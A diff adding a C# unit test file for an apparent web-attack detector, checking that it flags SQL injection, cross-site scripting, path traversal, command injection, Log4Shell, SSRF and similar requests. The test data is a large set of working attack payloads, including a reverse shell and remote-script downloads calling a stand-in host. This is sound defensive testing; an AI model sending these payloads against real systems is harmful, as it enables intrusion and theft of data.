@@ -1,0 +1,135 @@
+using Noroshi.Sensor.Detectors.Web;
+
+namespace Noroshi.Tests.Sensor.Detectors.Web;
+
+/// <summary>Each kind of attack in several dialects and disguises.</summary>
+public sealed class AttackTests
+{
+    [Theory]
+    [InlineData("1%27%20or%20%271%27=%271")]
+    [InlineData("1+and+1=1--+-")]
+    [InlineData("1+union+all+select+null,null,version()--")]
+    [InlineData("1/**/uNiOn/**/sElEcT/**/1,2,3")]
+    [InlineData("1/*!50000union*//*!50000select*/1,2")]
+    [InlineData("admin%27--")]
+    [InlineData("x%27);waitfor+delay+%270:0:5%27--")]
+    [InlineData("1;drop+table+users")]
+    [InlineData("1+and+sleep(5)")]
+    [InlineData("(select*from(select(sleep(5)))a)")]
+    [InlineData("1%27+and+extractvalue(1,concat(0x7e,version()))--+-")]
+    [InlineData("if(now()=sysdate(),sleep(5),0)")]
+    [InlineData("1%27+order+by+10--+-")]
+    [InlineData("%27%7C%7C(select+1+from+dual)%7C%7C%27")]
+    [InlineData("1%22+or+%22a%22+like+%22a")]
+    [InlineData("1+or+pg_sleep(5)--")]
+    [InlineData("-1+having+1=1")]
+    [InlineData("1%2527%2520or%25201%253D1")]
+    [InlineData("1%EF%BC%87%20or%201=1--")]
+    [InlineData("-5+procedure+analyse(extractvalue(rand(),concat(0x3a,version())),1)")]
+    public void Judge_SqlInjection_IsFound(string value) => Find(WebAttack.SqlInjection, $"/item?id={value}");
+
+    [Theory]
+    [InlineData("/login?user[$ne]=1&pass[$ne]=1")]
+    [InlineData("/find?q={%22$where%22:%22sleep(100)%22}")]
+    public void Judge_DocumentDatabaseOperators_AreSqlInjection(string target) => Find(WebAttack.SqlInjection, target);
+
+    [Theory]
+    [InlineData("%3Cscript%3Ealert(1)%3C/script%3E")]
+    [InlineData("%3Cimg+src=x+onerror=alert(1)%3E")]
+    [InlineData("%22%3E%3Csvg/onload=confirm`1`%3E")]
+    [InlineData("javascript:alert(document.domain)")]
+    [InlineData("java%0ascript:alert(1)")]
+    [InlineData("%22+onmouseover=prompt(1)+x=%22")]
+    [InlineData("%3Ca+href=%26%23106;avascript:alert(1)%3Ex")]
+    [InlineData("%27;alert(String.fromCharCode(88,83,83))//")]
+    [InlineData("%3Ciframe+srcdoc=%22x%22%3E")]
+    [InlineData("%253Cscript%253Ealert(1)%253C%252Fscript%253E")]
+    [InlineData("%u003Cscript%u003Ealert(1)")]
+    [InlineData("\\x3cscript\\x3ealert(1)")]
+    [InlineData("[][(![]%2B[])[%2B[]]]")]
+    [InlineData("%3Cdetails/open/ontoggle=alert(1)%3E")]
+    [InlineData("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
+    public void Judge_Scripts_AreFound(string value) => Find(WebAttack.CrossSiteScripting, $"/search?q={value}");
+
+    [Theory]
+    [InlineData("/download?file=../../../../etc/passwd")]
+    [InlineData("/..%2f..%2f..%2fetc%2fpasswd")]
+    [InlineData("/download?file=..%5c..%5c..%5cwindows%5cwin.ini")]
+    [InlineData("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")]
+    [InlineData("/download?file=....//....//....//etc/hosts")]
+    [InlineData("/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow")]
+    [InlineData("/a/..;/..;/manager/html")]
+    [InlineData("/download?file=/etc/passwd%00.png")]
+    [InlineData("/x?f=C:%5Cboot.ini")]
+    public void Judge_Traversal_IsFound(string target) => Find(WebAttack.PathTraversal, target);
+
+    [Theory]
+    [InlineData("127.0.0.1;id")]
+    [InlineData("127.0.0.1%7Ccat+/etc/passwd")]
+    [InlineData("$(whoami)")]
+    [InlineData("%60id%60")]
+    [InlineData("x%0Awget+http://203.0.113.9/a.sh")]
+    [InlineData("x;c%27a%27t%20/e%27t%27c/hosts")]
+    [InlineData("x;cat$%7BIFS%7D/etc/hosts")]
+    [InlineData("/???/c?t+/???/p??s??")]
+    [InlineData("%7Bcat,/etc/hosts%7D")]
+    [InlineData("x%26%26ping+-c+5+203.0.113.9")]
+    [InlineData("bash+-i+%3E%26+/dev/tcp/203.0.113.9/4444+0%3E%261")]
+    [InlineData("powershell+-enc+SQBFAFgA")]
+    [InlineData("%26+cmd.exe+/c+dir")]
+    [InlineData("x%7Cc%5Eertutil+-urlcache+-f+http://203.0.113.9/a")]
+    public void Judge_Commands_AreFound(string value) => Find(WebAttack.CommandInjection, $"/tools?host={value}");
+
+    [Theory]
+    [InlineData("/index.php?page=php://filter/convert.base64-encode/resource=index", WebAttack.FileInclusion)]
+    [InlineData("/index.php?page=http://203.0.113.9/shell.txt?", WebAttack.FileInclusion)]
+    [InlineData("/a?name={{7*7}}", WebAttack.CodeInjection)]
+    [InlineData("/a?name=$%7B7*7%7D", WebAttack.CodeInjection)]
+    [InlineData("/a?x=%25%7B(%23_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)%7D", WebAttack.CodeInjection)]
+    [InlineData("/a?x=$%7Bjndi:ldap://203.0.113.9/a%7D", WebAttack.KnownExploit)]
+    [InlineData("/a?x=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://203.0.113.9/a%7D", WebAttack.KnownExploit)]
+    [InlineData("/a?x=%3C?php+system($_GET[1]);?%3E", WebAttack.CodeInjection)]
+    [InlineData("/a?x=__import__(%27os%27).system(%27id%27)", WebAttack.CodeInjection)]
+    [InlineData("/a?__proto__[admin]=1", WebAttack.CodeInjection)]
+    [InlineData("/a?x=T(java.lang.Runtime).getRuntime().exec(%22id%22)", WebAttack.CodeInjection)]
+    [InlineData("/a?user=*)(uid=*))(|(uid=*", WebAttack.LdapInjection)]
+    [InlineData("/a?xml=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22file:///etc/passwd%22%3E]%3E", WebAttack.XmlInjection)]
+    [InlineData("/a?lang=en%0d%0aSet-Cookie:%20a=b", WebAttack.HeaderInjection)]
+    [InlineData("/a?data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", WebAttack.Deserialization)]
+    [InlineData("/a?data=O:8:%22stdClass%22:0:%7B%7D", WebAttack.Deserialization)]
+    [InlineData("/a?url=http://169.254.169.254/latest/meta-data/", WebAttack.RequestForgery)]
+    [InlineData("/a?url=http://0x7f000001/", WebAttack.RequestForgery)]
+    [InlineData("/a?url=gopher://127.0.0.1:6379/_x", WebAttack.RequestForgery)]
+    [InlineData("/.git/config", WebAttack.SensitiveFile)]
+    [InlineData("/uploads/c99.php?act=ls", WebAttack.WebShell)]
+    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", WebAttack.KnownExploit)]
+    public void Judge_OtherKinds_AreFound(string target, WebAttack kind) => Find(kind, target);
+
+    [Theory]
+    [InlineData("() { :; }; /bin/bash -c id", WebAttack.KnownExploit)]
+    [InlineData("${jndi:ldap://203.0.113.9/a}", WebAttack.KnownExploit)]
+    [InlineData("sqlmap/1.8#stable (https://sqlmap.org)", WebAttack.Scanner)]
+    [InlineData("Mozilla/5.0' and sleep(5)-- -", WebAttack.SqlInjection)]
+    [InlineData("<script>alert(1)</script>", WebAttack.CrossSiteScripting)]
+    public void Judge_Agent_IsLookedAt(string agent, WebAttack kind)
+    {
+        var verdict = Judged.Agent(agent);
+        Assert.True(verdict.Classes.HasFlag(kind), $"{verdict}");
+        Assert.Equal(Tier.High, verdict.Tier);
+    }
+
+    [Fact]
+    public void Judge_Referer_IsLookedAtButSearchResultsAreNeverBeyondDoubt()
+    {
+        Assert.Equal(Tier.High, Judged.Referer("https://example.org/?q=<script>alert(1)</script>").Tier);
+        Assert.NotEqual(Tier.High, Judged.Referer("https://www.google.com/search?q=<script>alert(1)</script>").Tier);
+    }
+
+    private static void Find(WebAttack kind, string target)
+    {
+        var verdict = Judged.Target(target);
+        Assert.True(verdict.Classes.HasFlag(kind), $"{target}: {verdict}");
+        Assert.NotEqual(Tier.None, verdict.Tier);
+        Assert.NotEqual("", verdict.Rule);
+    }
+}
